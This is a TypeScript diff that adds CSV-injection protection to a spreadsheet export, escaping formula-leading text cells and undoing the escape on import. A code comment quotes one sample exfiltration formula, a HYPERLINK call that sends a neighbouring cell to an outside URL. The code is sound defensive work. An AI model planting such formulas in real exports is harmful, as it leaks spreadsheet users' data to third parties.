@@ -10,7 +10,28 @@ export interface SheetWriter {
 
 export type SheetFormat = 'csv' | 'xlsx';
 
-const csvField = (value: string | null) => (value === null ? '' : /[",\r\n;\t|]/.test(value) || value !== value.trim() ? `"${value.replaceAll('"', '""')}"` : value);
+/**
+ * CSV injection (OWASP): a spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or `@`
+ * as a formula (`=HYPERLINK("http://…"&A2,"Lihat bukti")` sends a neighbouring cell away when
+ * clicked), and one that begins with a tab or a carriage return can hide such a start. Such a text gets
+ * an apostrophe in front, which spreadsheets show as text. A number (`-0.25`, `+0,67`) is left alone:
+ * a spreadsheet reads it as that number, with nothing to run. A text that already begins with
+ * apostrophes before such a character gets one more, so that `restoreCsvText` (used by the import)
+ * gives every text back exactly: export and import round-trip.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+const NUMBER = /^[+-]?\d+([.,]\d+)?$/;
+
+export const neutraliseCsvText = (value: string): string => (FORMULA_START.test(value) && !NUMBER.test(value) ? `'${value}` : value);
+
+/** The inverse of `neutraliseCsvText`, applied to every cell a CSV import reads. */
+export const restoreCsvText = (value: string): string => (/^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value);
+
+const csvField = (raw: string | null) => {
+  if (raw === null) return '';
+  const value = neutraliseCsvText(raw);
+  return /[",\r\n;\t|]/.test(value) || value !== value.trim() ? `"${value.replaceAll('"', '""')}"` : value;
+};
 
 /**
  * CSV as Excel opens it without asking: UTF-8 with a BOM, comma-delimited, CRLF line ends (RFC 4180).
